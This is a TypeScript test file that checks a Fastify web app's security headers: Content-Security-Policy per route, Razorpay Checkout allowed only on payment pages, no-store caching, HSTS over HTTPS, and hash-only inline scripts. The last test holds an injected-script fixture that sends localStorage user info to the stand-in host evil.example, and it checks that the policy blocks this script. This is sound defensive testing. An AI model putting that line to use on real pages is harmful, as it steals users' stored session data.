import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from '../../test/context.js';
import { createLoggedInUser } from '../../test/factories.js';
import { buildApp } from '../app.js';
import { sendHtml } from './compressed-html.js';
import { knownScripts, registerSecurityHeaders } from './security-headers.js';

let t: TestContext;
let web: FastifyInstance;
const BOOT = "(function(){document.documentElement.dataset.boot='1'})();";

beforeAll(async () => {
  const dist = path.join(process.env.TMPDIR ?? '/tmp', `para-headers-${process.pid}-${Date.now()}`);
  await mkdir(path.join(dist, 'assets'), { recursive: true });
  await writeFile(
    path.join(dist, 'index.html'),
    '<!doctype html><html><body><div id="root"></div></body></html>',
  );
  t = await createTestContext({ WEB_DIST: dist, TRUST_PROXY: 'true' });
  web = await buildApp(t.ctx, { serveWeb: true, logger: false });
  await web.ready();
});
afterAll(async () => {
  await web.close();
  await t.close();
});

const directives = (header: unknown) =>
  Object.fromEntries(
    String(header)
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name, ...values]) => [name, values]),
  );

describe('security headers', () => {
  it('API answers: nothing loads from them or frames them, no sniffing, no referrer leaks', async () => {
    const response = await web.inject({ method: 'GET', url: '/api/health' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['x-frame-options']).toBe('DENY');
    expect(response.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(response.headers['strict-transport-security']).toBeUndefined();
    // Errors too: the envelope from the not-found handler.
    const missing = await web.inject({ method: 'GET', url: '/api/no-such-thing' });
    expect(missing.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
  });

  it('API answers are kept by no browser or proxy, unless the route means them to be', async () => {
    const athlete = await createLoggedInUser(t);
    const answers = [
      await web.inject({ method: 'GET', url: '/api/health' }),
      await web.inject({ method: 'GET', url: '/api/content/site' }),
      await web.inject({
        method: 'GET',
        url: '/api/user/get-user-profile-data',
        headers: { 'access-token': athlete.token },
      }),
      await web.inject({ method: 'GET', url: '/api/user/get-user-profile-data' }),
      await web.inject({ method: 'GET', url: '/api/no-such-thing' }),
      await web.inject({
        method: 'POST',
        url: '/api/login',
        headers: { 'content-type': 'application/json' },
        payload: '{"email":"nobody@example.in"}',
      }),
    ];
    expect(answers.map((answer) => answer.statusCode)).toEqual([200, 200, 200, 401, 404, 400]);
    for (const answer of answers) expect(answer.headers['cache-control']).toBe('no-store');
    // A route's own choice stands: a missing cover image is an error, not kept either.
    const cover = await web.inject({
      method: 'GET',
      url: '/api/content/news/00000000-0000-4000-8000-000000000000/cover',
    });
    expect(cover.statusCode).toBe(404);
    expect(cover.headers['cache-control']).toBe('no-store');
    // Pages are not API answers: they keep their own rule (revalidated, never no-store).
    expect((await web.inject({ method: 'GET', url: '/user/profile' })).headers['cache-control']).toBe(
      'no-cache',
    );
  });

  it("Razorpay Checkout is allowed where someone may pay, never on the administrators' pages", async () => {
    const razorpay = /razorpay\.com/;
    for (const url of [
      '/registration-payment',
      '/pay/some-link-token',
      '/user/form/6f1c2a9e-0000-4000-8000-000000000001',
      '/user/event-form/6f1c2a9e-0000-4000-8000-000000000001',
      '/district/competitions/6f1c2a9e-0000-4000-8000-000000000001',
      '/user/dashboard',
    ]) {
      const response = await web.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(200);
      const csp = directives(response.headers['content-security-policy']);
      expect(csp['script-src'], url).toContain('https://checkout.razorpay.com');
      expect(csp['frame-src'], url).toContain('https://api.razorpay.com');
    }
    for (const url of [
      '/admin',
      '/admin/dashboard',
      '/admin/payment-management',
      '/admin/registrations/x1',
      '/admin/nope',
    ]) {
      const response = await web.inject({ method: 'GET', url });
      const csp = String(response.headers['content-security-policy']);
      expect(csp, url).toContain("script-src 'self'");
      expect(csp, url).not.toMatch(razorpay);
    }
    // Nor on any other response, whatever it is.
    expect(
      String((await web.inject({ method: 'GET', url: '/robots.txt' })).headers['content-security-policy']),
    ).not.toMatch(razorpay);
  });

  it('the React app: no inline script, Razorpay Checkout allowed, never framed', async () => {
    const response = await web.inject({ method: 'GET', url: '/registration-payment' });
    expect(response.statusCode).toBe(200);
    const csp = directives(response.headers['content-security-policy']);
    expect(csp['script-src']).toEqual(["'self'", 'https://checkout.razorpay.com']);
    expect(csp['frame-src']).toContain('https://api.razorpay.com');
    expect(csp['frame-ancestors']).toEqual(["'none'"]);
    expect(csp['object-src']).not.toContain('*');
    expect(csp['default-src']).toEqual(["'self'"]);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
  });

  it('sends HSTS only on requests that came over HTTPS', async () => {
    const secure = await web.inject({
      method: 'GET',
      url: '/api/health',
      headers: { 'x-forwarded-proto': 'https' },
    });
    expect(secure.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
    const plain = await web.inject({ method: 'GET', url: '/home' });
    expect(plain.headers['strict-transport-security']).toBeUndefined();
  });

  it('a server-rendered page allows its known inline script by hash, and nothing else inline', async () => {
    const pages = Fastify();
    await registerSecurityHeaders(pages);
    // The page's content carries a script that got past everything else: it is not one the server's
    // templates write, so the policy gives it no hash and the browser refuses to run it.
    const injected = 'fetch("https://evil.example/?t="+localStorage.getItem("userinfo"))';
    pages.get('/home', (request, reply) =>
      sendHtml(
        request,
        reply,
        `<html><head><script>${BOOT}</script><script type="module" src="/a.js"></script></head><body><p>News</p><script>${injected}</script></body></html>`,
        { kind: 'rendered', scripts: knownScripts([BOOT]) },
      ),
    );
    const response = await pages.inject({ method: 'GET', url: '/home' });
    const csp = directives(response.headers['content-security-policy']);
    const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
    expect(csp['script-src']).toEqual(["'self'", hashOf(BOOT)]);
    expect(csp['script-src']).not.toContain(hashOf(injected));
    expect(csp['script-src']).not.toContain("'unsafe-inline'");
    expect(csp['frame-ancestors']).toEqual(["'none'"]);
    await pages.close();
  });
});
